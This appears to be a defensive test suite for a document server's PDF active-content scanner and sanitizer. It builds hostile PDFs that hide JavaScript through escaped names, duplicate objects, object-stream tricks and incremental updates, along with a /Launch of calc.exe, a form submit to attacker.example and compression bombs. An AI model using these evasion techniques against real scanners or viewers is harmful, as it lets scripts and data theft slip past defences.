import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { expect } from 'chai';
import mongoose from 'mongoose';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { scanPdf } from '../../server/src/files/pdf-scan';
import { heavyFileWork } from '../../server/src/files/workers';
import type { RunningServer } from '../../server/src/server';
import type { ApiClient } from '../support/api-client';
import { createCorrespondents, createFolder, setFolderAccess } from '../support/fixtures';
import { activeVerdict, downloadFile, memoType, pdfWithText, uploadFile } from '../support/files';
import { pdfPageTexts } from '../../server/src/files/pdf-text';
import { buildPdf, objectStreamBomb, pageObjects, pdfWithObjectStream, streamBody } from '../support/hostile-pdf';
import { activeNamesInBytes, activeNamesReadByPdfLib } from '../support/safe-pdf';
import { signedIn, startTestServer } from '../support/server';

const PASSWORD = 'secret-password-1';

/** The session-7 attack: PDFs whose script ran in Chromium's viewer while the check called them plain (and their controls). */
const FIXTURES = path.join(import.meta.dirname, '..', 'fixtures', 'hostile-pdf');
const sessionSevenPdfs = (): Record<string, Buffer> =>
  Object.fromEntries(
    readdirSync(FIXTURES)
      .filter((name) => name.endsWith('.pdf'))
      .map((name) => [name, readFileSync(path.join(FIXTURES, name))]),
  );

/** Hostile PDFs that ran their script (or would send the form) in Chromium's or pdf.js's viewer while the earlier check called them plain. */
function hostilePdfs(): Record<string, Buffer> {
  const script = "<< /S /JavaScript /JS (app.alert('x')) >>";
  const opening = (object6: string, title: string) => buildPdf([...pageObjects(title, { catalog: '/OpenAction 6 0 R' }), [6, object6]]);
  const hidden = Buffer.from(`6 0 obj\n${script}\nendobj\n`, 'latin1');
  const carrier = Buffer.concat([Buffer.from('% padding\n'), hidden, Buffer.from('% padding\n')]);
  const inStream = buildPdf([...pageObjects('Hidden in stream', { catalog: '/OpenAction 6 0 R' }), [7, streamBody(carrier)]], {
    offsets: { 6: (written) => written.indexOf(hidden) },
  });
  return {
    // Lowercase hex escapes in names: /#4aS is /JS to a viewer.
    'hex-lower': opening("<< /S /#4aavaScript /#4aS (app.alert('x')) >>", 'Hex lower'),
    'names-lower': buildPdf([...pageObjects('Names tree', { catalog: '/Names << /#4aavaScript << /Names [(x) 6 0 R] >> >>' }), [6, script]]),
    'launch-lower': opening('<< /S /#4caunch /F (calc.exe) >>', 'Launch'),
    'submit-lower': opening('<< /S /Sub#6ditForm /F << /FS /URL /F (https://attacker.example/c) >> >>', 'Submit'),
    // The same object number twice: the cross-reference table points at the first (the script), a reader going top to bottom keeps the second.
    duplicate: buildPdf([...pageObjects('Duplicate', { catalog: '/OpenAction 6 0 R' }), [6, script], [6, '<< /S /GoTo /D [3 0 R /Fit] >>']]),
    // An object inside another stream's data, which /Length tells a reader to skip.
    'in-stream': inStream,
    // The action type given by reference.
    'indirect-S': buildPdf([
      ...pageObjects('Indirect S', { catalog: '/OpenAction 6 0 R' }),
      [6, '<< /S 8 0 R /F << /FS /URL /F (https://attacker.example/c) >> >>'],
      [8, '/SubmitForm'],
    ]),
    // Object streams whose /Type is escaped, or missing (pdf.js needs only /N and /First).
    'objstm-escaped-type': pdfWithObjectStream('ObjStm escaped', '/OpenAction 6 0 R', script, '/Type /#4fbjStm'),
    'objstm-no-type': pdfWithObjectStream('ObjStm no type', '/OpenAction 6 0 R', script, ''),
    xfa: buildPdf([
      ...pageObjects('XFA', { catalog: '/AcroForm 6 0 R' }),
      [6, '<< /Fields [] /XFA 7 0 R >>'],
      [7, streamBody(Buffer.from('<xdp:xdp><script>app.alert(1)</script></xdp:xdp>'))],
    ]),
    screen: buildPdf([...pageObjects('Screen', { page: '/Annots [6 0 R]' }), [6, '<< /Type /Annot /Subtype /Screen /Rect [0 0 10 10] /A << /S /Rendition /OP 0 >> >>']]),
    '3d': buildPdf([
      ...pageObjects('3D', { page: '/Annots [6 0 R]' }),
      [6, '<< /Type /Annot /Subtype /3D /Rect [0 0 10 10] /3DD 7 0 R >>'],
      [7, streamBody(Buffer.from('x'), '/Type /3D /Subtype /U3D /OnInstantiate 8 0 R')],
      [8, streamBody(Buffer.from('x'))],
    ]),
  };
}

/** A PDF whose object 6 (opened by the catalog) hides in stream data behind the header `header`, with an escaped letter in /JavaScript. */
function hiddenInStream(title: string, header: string): Buffer {
  const hidden = Buffer.from(`${header}\n<< /S /JavaScrip#74 /JS (app.alert('x')) >>\nendobj\n`, 'latin1');
  const carrier = Buffer.concat([Buffer.from('% padding\n'), hidden, Buffer.from('% padding\n')]);
  return buildPdf([...pageObjects(title, { catalog: '/OpenAction 6 0 R' }), [7, streamBody(carrier)]], { offsets: { 6: (written) => written.indexOf(hidden) } });
}

/** A plain PDF and an incremental update after its %%EOF that opens object 6, hidden in stream data behind a header split by a comment. */
function incrementalWithCommentHeader(): Buffer {
  const base = buildPdf(pageObjects('Incremental'));
  const previous = /startxref\n([0-9]+)/.exec(base.toString('latin1'))![1];
  const hidden = "6 0 %x\nobj\n<< /S /JavaScrip#74 /JS (app.alert('x')) >>\nendobj\n";
  let update = '\n';
  const at = () => base.length + Buffer.byteLength(update, 'latin1');
  const catalogAt = at();
  update += '1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>\nendobj\n';
  const streamAt = at();
  const carrier = `% padding\n${hidden}% padding\n`;
  update += `7 0 obj\n<< /Length ${carrier.length} >>\nstream\n${carrier}\nendstream\nendobj\n`;
  const hiddenAt = base.length + Buffer.from(update, 'latin1').indexOf(hidden);
  const row = (offset: number) => `${String(offset).padStart(10, '0')} 00000 n \n`;
  const xrefAt = at();
  update += `xref\n0 1\n0000000000 65535 f \n1 1\n${row(catalogAt)}6 2\n${row(hiddenAt)}${row(streamAt)}trailer\n<< /Size 8 /Root 1 0 R /Prev ${previous} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.concat([base, Buffer.from(update, 'latin1')]);
}

/** Hostile PDFs of the second attack: object headers the check did not recognise, escaped names in stream data, a false dictionary. */
function hostilePdfs2(): Record<string, Buffer> {
  const escaped = "<< /S /JavaScrip#74 /JS (app.alert('x')) >>";
  const emptyStored = deflateSync(Buffer.alloc(0), { level: 0 });
  return {
    // A comment between the generation and `obj`, and more digits than a header usually has.
    'comment-header': hiddenInStream('Comment header', '6 0 %x\nobj'),
    'zero-padded-number': hiddenInStream('Zero padded', '00000000006 0 obj'),
    'long-generation': hiddenInStream('Long generation', '6 000000 obj'),
    // An object stream whose dictionary holds a loose header, so that the dictionary seemed to start there.
    'objstm-loose-header': pdfWithObjectStream('ObjStm loose header', '/OpenAction 6 0 R', escaped, '/Type /ObjStm', { compressed: false, trailing: '/Q 1 0 obj' }),
    // … also with only a short active name (not looked for in data): the stream must be read as an object stream.
    'objstm-loose-header-short-name': pdfWithObjectStream('ObjStm loose header AA', '/Pages 2 0 R', '<< /AA << /O 9 0 R >> >>', '/Type /ObjStm', {
      compressed: false,
      trailing: '/Q 1 0 obj',
    }),
    'objstm-loose-header-flate': pdfWithObjectStream('ObjStm loose header flate', '/OpenAction 6 0 R', escaped, '/Type /ObjStm', { trailing: '/Q 1 0 obj' }),
    // A false stream inside a string of a dictionary: what follows seemed stream data.
    'string-fake-stream': buildPdf([
      ...pageObjects('String fake stream', { catalog: '/OpenAction 6 0 R' }),
      [
        6,
        Buffer.concat([
          Buffer.from('<< /Filter /FlateDecode /X (>>stream\n', 'latin1'),
          emptyStored,
          Buffer.from(") /S /JavaScrip#74 /JS (app.alert('x')) /Y (endstream) >>", 'latin1'),
        ]),
      ],
    ]),
    'incremental-comment-header': incrementalWithCommentHeader(),
  };
}

/** `count` tiny Flate streams with no object header anywhere, then a catalog that runs a script. */
function manyBareStreams(count: number): Buffer {
  const empty = deflateSync(Buffer.alloc(0));
  const stream = Buffer.concat([Buffer.from('<</Filter/FlateDecode>>stream\n', 'latin1'), empty, Buffer.from('\nendstream\n', 'latin1')]);
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n', 'latin1'),
    ...Array.from({ length: count }, () => stream),
    Buffer.from("<< /OpenAction << /S /JavaScript /JS (app.alert('x')) >> >>\n%%EOF\n", 'latin1'),
  ]);
}

describe('files on cards: PDFs with active content (API)', function () {
  this.timeout(180_000);
  let server: RunningServer;
  let admin: ApiClient;
  let editor: ApiClient;
  let folderId: string;

  const upload = async (client: ApiClient, name: string, content: Buffer) => {
    const answer = await uploadFile(client, server.url, { folderId, typeKey: 'memo', field: 'attachment' }, { name, content });
    expect(answer.status, JSON.stringify(answer.body)).to.equal(201);
    return answer.body.file!;
  };
  /**
   * What the browser's viewer is given of an uploaded PDF (`?inline=1`): its status, and for a copy the
   * active names found in it by a raw read of its bytes (every stream inflated) and by pdf-lib.
   */
  const viewed = async (client: ApiClient, url: string) => {
    const answer = await downloadFile(client, server.url, `${url}?inline=1`);
    if (answer.status !== 200) return { status: answer.status, bytes: answer.bytes, found: [] as string[] };
    return { status: 200, bytes: answer.bytes, found: [...activeNamesInBytes(answer.bytes), ...(await activeNamesReadByPdfLib(answer.bytes))] };
  };
  /** Uploads each PDF and opens it inline: the status and what was found in each copy (all must be empty), and the uploads' ids. */
  const viewAll = async (pdfs: Record<string, Buffer>) => {
    const seen: Record<string, [number, string[]]> = {};
    const ids: Record<string, string> = {};
    for (const [name, content] of Object.entries(pdfs)) {
      const file = await upload(admin, name.endsWith('.pdf') ? name : `${name}.pdf`, content);
      const view = await viewed(admin, file.url);
      expect(view.bytes.equals(content), `${name}: the viewer got the uploaded bytes`).to.equal(false);
      seen[name] = [view.status, view.found];
      ids[name] = file.id;
    }
    return { seen, ids };
  };
  const allClean = (pdfs: Record<string, Buffer>) => Object.fromEntries(Object.keys(pdfs).map((name) => [name, [200, []]]));
  const allActive = (pdfs: Record<string, Buffer>) => Object.fromEntries(Object.keys(pdfs).map((name) => [name, true]));
  /** The download's verdict on each upload (waiting for its check), by name. */
  const verdictsOf = async (ids: Record<string, string>) => {
    const verdicts: Record<string, boolean> = {};
    for (const [name, id] of Object.entries(ids)) verdicts[name] = await activeVerdict(admin, id);
    return verdicts;
  };

  before(async () => {
    server = await startTestServer();
    admin = await signedIn(server);
    const scenario = await createCorrespondents(admin, PASSWORD, [{ login: 'editor', fullName: 'Татьяна Гончаренко', level: 'edit' }]);
    await admin.data('mutation($d: CardTypeInput!) { createCardType(definition: $d) { key } }', { d: memoType });
    folderId = await createFolder(admin, { libraryId: scenario.libraryId, name: 'Заметки', allowedCardTypes: ['memo'] });
    await setFolderAccess(admin, folderId, [{ principalId: scenario.userIds.editor, level: 'edit' }]);
    editor = await signedIn(server, 'editor', PASSWORD);
  });
  after(async () => {
    await server?.stop();
  });

  it('gives the viewer a rebuilt copy of a plain PDF: same pages and text, sandboxed, audited as a view of the safe copy', async () => {
    const content = await pdfWithText('Plain contract of the okapi');
    const file = await upload(admin, 'clean.pdf', content);
    expect(await activeVerdict(admin, file.id)).to.equal(false);
    const opened = await downloadFile(admin, server.url, `${file.url}?inline=1`);
    expect(opened.status).to.equal(200);
    expect(opened.headers.get('content-type')).to.equal('application/pdf');
    expect(opened.headers.get('content-disposition')).to.match(/^inline;/);
    // Defence in depth: the viewer's document is sandboxed too (Chromium's viewer still shows it).
    expect(opened.headers.get('content-security-policy')).to.match(/; sandbox$/);
    expect(opened.bytes.equals(content)).to.equal(false);
    const size = opened.bytes.length;
    // (pdf.js takes the buffers it reads: copies are read.)
    expect(await pdfPageTexts(Buffer.from(opened.bytes))).to.deep.equal(await pdfPageTexts(Buffer.from(content)));
    // Ranges of the copy, as a viewer reads it in parts; the download stays the original.
    const part = await downloadFile(admin, server.url, `${file.url}?inline=1`, { range: 'bytes=0-7' });
    expect([part.status, part.headers.get('content-range'), part.bytes.toString()]).to.deep.equal([206, `bytes 0-7/${size}`, '%PDF-1.7']);
    expect((await downloadFile(admin, server.url, file.url)).bytes.equals(content)).to.equal(true);
    const audit = await mongoose.connection.db!.collection('auditentries').find({ kind: 'file-previewed', 'after.fileId': file.id }).sort({ _id: 1 }).toArray();
    expect(audit.map((entry) => [entry.after.disposition, entry.after.safeCopy, entry.after.range])).to.deep.equal([
      ['inline', true, undefined],
      ['inline', true, '0-7'],
    ]);
  });

  it('gives the viewer of the session-7 attack PDFs (scripts ran in Chromium) copies with no script, action, form or annotation, and warns of them for the download', async () => {
    const pdfs = sessionSevenPdfs();
    expect(Object.keys(pdfs)).to.have.length(13);
    // The originals do carry what the copies must not.
    for (const [name, content] of Object.entries(pdfs))
      expect(
        activeNamesInBytes(content).filter((found) => /^\/(OpenAction|Annots) in file$/.test(found)),
        name,
      ).to.have.length(1);
    const { seen, ids } = await viewAll(pdfs);
    expect(seen).to.deep.equal(allClean(pdfs));
    // The byte scan misreads 11 of them; as pdf-lib reads them for the copy, each holds a script or an opening action it cannot read.
    expect(await verdictsOf(ids)).to.deep.equal(allActive(pdfs));
  });

  it('does not warn of an ordinary PDF with a web link and an opening view (what the copy drops, but nothing that acts)', async () => {
    const document = await PDFDocument.load(await pdfWithText('A contract with a link'));
    const [page] = document.getPages();
    const link = document.context.register(
      document.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 20], A: { S: 'URI', URI: PDFString.of('https://example.com/terms') } }),
    );
    page.node.set(PDFName.of('Annots'), document.context.obj([link]));
    document.catalog.set(PDFName.of('OpenAction'), document.context.obj([page.ref, 'Fit']));
    const file = await upload(admin, 'ссылка.pdf', Buffer.from(await document.save()));
    expect(await activeVerdict(admin, file.id)).to.equal(false);
  });

  it('flags PDFs that hide scripts from a reader (escaped names, duplicate objects, objects in stream data, untyped object streams, XFA, media) for the download, and views only their safe copies', async () => {
    const pdfs = hostilePdfs();
    const { seen, ids } = await viewAll(pdfs);
    expect(seen).to.deep.equal(allClean(pdfs));
    expect(await verdictsOf(ids)).to.deep.equal(allActive(pdfs));
  });

  it('views only safe copies of the second attack (comment or long headers, escaped names in stream data, loose headers in a dictionary, strings that look like streams, incremental updates)', async () => {
    const pdfs = hostilePdfs2();
    expect((await viewAll(pdfs)).seen).to.deep.equal(allClean(pdfs));
  });

  it('gives an encrypted PDF no inline view, with the reason', async () => {
    const encrypted = buildPdf(pageObjects('Encrypted'), { trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>' });
    const file = await upload(admin, 'зашифрован.pdf', encrypted);
    const inline = await downloadFile(admin, server.url, `${file.url}?inline=1`, { accept: 'text/html' });
    expect(inline.status).to.equal(422);
    expect(inline.bytes.toString()).to.include('Превью недоступно: документ зашифрован: откройте его после скачивания').and.not.include('%PDF');
    expect((await downloadFile(admin, server.url, file.url)).bytes.equals(encrypted)).to.equal(true);
  });

  it('reads a file of many tiny streams with no object header through, in time linear in its size', () => {
    const small = manyBareStreams(20_000);
    const large = manyBareStreams(40_000);
    expect(large.length).to.be.above(1.5 * 1024 * 1024);
    const smallStats = { searched: 0 };
    const largeStats = { searched: 0 };
    // Read to the end: the script after the streams is found.
    expect(scanPdf(small, undefined, smallStats)).to.equal('/JavaScript');
    expect(scanPdf(large, undefined, largeStats)).to.equal('/JavaScript');
    // The characters searched for the streams' dictionaries grow with the file, not with its square.
    expect(largeStats.searched).to.be.at.most(large.length);
    expect(largeStats.searched).to.be.at.most(2.1 * smallStats.searched);
  });

  it('judges again a version judged plain by an older check, and views only its safe copy', async () => {
    const file = await upload(
      admin,
      'старый.pdf',
      buildPdf([...pageObjects('Old verdict', { catalog: '/OpenAction 6 0 R' }), [6, "<< /S /#4aavaScript /#4aS (app.alert('x')) >>"]]),
    );
    // As the earlier check left it: plain, with no check version.
    await mongoose.connection.db!.collection('files').updateOne({ _id: new mongoose.Types.ObjectId(file.id) }, { $set: { activeContent: false }, $unset: { activeCheck: '' } });
    const view = await viewed(admin, file.url);
    expect([view.status, view.found]).to.deep.equal([200, []]);
    expect(await activeVerdict(admin, file.id)).to.equal(true);
  });

  it('checks a compression bomb off the main thread, after the upload is answered: others are answered meanwhile, and the bomb counts as active', async () => {
    // An object stream that inflates to 160 MB (over the check's 128 MB), from a few hundred kilobytes.
    const bomb = await objectStreamBomb(160);
    expect(bomb.length).to.be.below(1024 * 1024);
    // The upload is answered without its verdict: nothing waits for the check.
    const result = await uploadFile(editor, server.url, { folderId, typeKey: 'memo', field: 'attachment' }, { name: 'бомба.pdf', content: bomb });
    expect(result.status).to.equal(201);
    expect(result.body.file!.activeContent).to.equal(null);
    const verdict = activeVerdict(editor, result.body.file!.id);
    // While the check runs, another user's request is answered.
    const other = await admin.data<{ __typename: string }>('{ __typename }');
    expect(other.__typename).to.equal('Query');
    expect(await verdict).to.equal(true);
  });

  it('lists a PDF whose check waits behind other users’ heavy work at once, as «being checked» (null), and its verdict once checked', async () => {
    // Both places of the heavy work are taken (other users' long checks) until released.
    let release = () => {};
    const held = new Promise<void>((resolve) => (release = resolve));
    const holders = ['other-1', 'other-2'].map((owner) => heavyFileWork.run(owner, () => held));
    try {
      const file = await upload(editor, 'ждёт проверки.pdf', await pdfWithText('Waiting for its check'));
      const listed = await editor.data<{ files: { activeContent: boolean | null }[] }>('query($ids: [ID!]!) { files(ids: $ids) { activeContent } }', { ids: [file.id] });
      expect(listed.files).to.deep.equal([{ activeContent: null }]);
      release();
      expect(await activeVerdict(editor, file.id)).to.equal(false);
    } finally {
      release();
      await Promise.all(holders);
    }
  });

  it('makes no safe copy of a PDF whose object streams inflate past 64 MB together, says why (422), and keeps the original for download', async () => {
    // Two object streams of 40 MB each: each within the bound, together over it.
    const bomb = await objectStreamBomb(40, 40);
    expect(bomb.length).to.be.below(200 * 1024);
    const file = await upload(admin, 'бомба-копия.pdf', bomb);
    const refusal = 'Превью недоступно: в документе слишком много сжатых данных (больше 64 МБ после распаковки): откройте его после скачивания';
    const inline = await downloadFile(admin, server.url, `${file.url}?inline=1`);
    expect(inline.status).to.equal(422);
    expect(JSON.parse(inline.bytes.toString()).errors[0]).to.deep.equal({ message: refusal, extensions: { code: 'UNPROCESSABLE' } });
    // Kept with the version: with its bytes gone the answer is the same, not worked out again.
    await mongoose.connection.db!.collection('fs.chunks').deleteMany({ files_id: new mongoose.Types.ObjectId(file.id) });
    const framed = await downloadFile(admin, server.url, `${file.url}?inline=1`, { accept: 'text/html' });
    expect(framed.status).to.equal(422);
    expect(framed.bytes.toString()).to.include(`<p>${refusal}</p>`);
    // A document whose object streams stay within the bound is copied as before.
    const within = await upload(admin, 'в-пределах.pdf', await objectStreamBomb(20, 20));
    expect((await viewed(admin, within.url)).status).to.equal(200);
  });

  it('makes no safe copy far larger than the PDF (the objects of its object streams written out), says why, and keeps nothing of it', async () => {
    // Ten strings of a megabyte in an object stream the page points to: 10 MB of copy from a few kilobytes.
    const strings = Array.from({ length: 10 }, (_, index) => `/S${index} (${'A'.repeat(1024 * 1024)})`).join(' ');
    const packed = deflateSync(Buffer.from(`6 0 << ${strings} >>`, 'latin1'));
    const bloat = buildPdf([...pageObjects('Bloat', { page: '/PieceInfo 6 0 R' }), [7, streamBody(packed, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode')]]);
    expect(bloat.length).to.be.below(100 * 1024);
    const file = await upload(admin, 'раздутый.pdf', bloat);
    const inline = await downloadFile(admin, server.url, `${file.url}?inline=1`);
    expect([inline.status, JSON.parse(inline.bytes.toString()).errors[0].message]).to.deep.equal([
      422,
      'Превью недоступно: безопасная копия документа вышла бы намного больше самого файла: откройте его после скачивания',
    ]);
    const version = await mongoose.connection.db!.collection('files').findOne({ _id: new mongoose.Types.ObjectId(file.id) });
    expect(version?.renditions.safePdf).to.equal(null);
    expect((await downloadFile(admin, server.url, file.url)).bytes.equals(bloat)).to.equal(true);
  });

  it('serves a kept safe copy like a file: a range from the storage, 304 for the ETag the viewer holds, HEAD with its length', async () => {
    const file = await upload(admin, 'кэш.pdf', await pdfWithText('Cached contract of the tapir'));
    const whole = await downloadFile(admin, server.url, `${file.url}?inline=1`);
    expect(whole.status).to.equal(200);
    const etag = whole.headers.get('etag')!;
    const part = await downloadFile(admin, server.url, `${file.url}?inline=1`, { range: 'bytes=100-199' });
    expect([part.status, part.headers.get('content-range')]).to.deep.equal([206, `bytes 100-199/${whole.bytes.length}`]);
    expect(part.bytes.equals(whole.bytes.subarray(100, 200))).to.equal(true);
    // As a browser revalidates what it holds (fetch would add Cache-Control: no-cache to a conditional request of its own).
    const cached = await downloadFile(admin, server.url, `${file.url}?inline=1`, { 'if-none-match': etag, 'cache-control': 'max-age=0' });
    expect([cached.status, cached.bytes.length]).to.deep.equal([304, 0]);
    const head = await fetch(`${server.url}${file.url}?inline=1`, { method: 'HEAD', headers: { cookie: admin.cookieHeader() } });
    expect([head.status, head.headers.get('content-length'), head.headers.get('content-type')]).to.deep.equal([200, String(whole.bytes.length), 'application/pdf']);
  });

  it('counts a PDF over the object or inflated-bytes limits as active', () => {
    const many = buildPdf([...pageObjects('Many'), ...Array.from({ length: 20 }, (_, index): [number, string] => [10 + index, '<< >>'])]);
    expect(scanPdf(many)).to.equal(null);
    expect(scanPdf(many, { objects: 10, inflatedBytes: 1024 })).to.equal('more than 10 objects');
  });
});
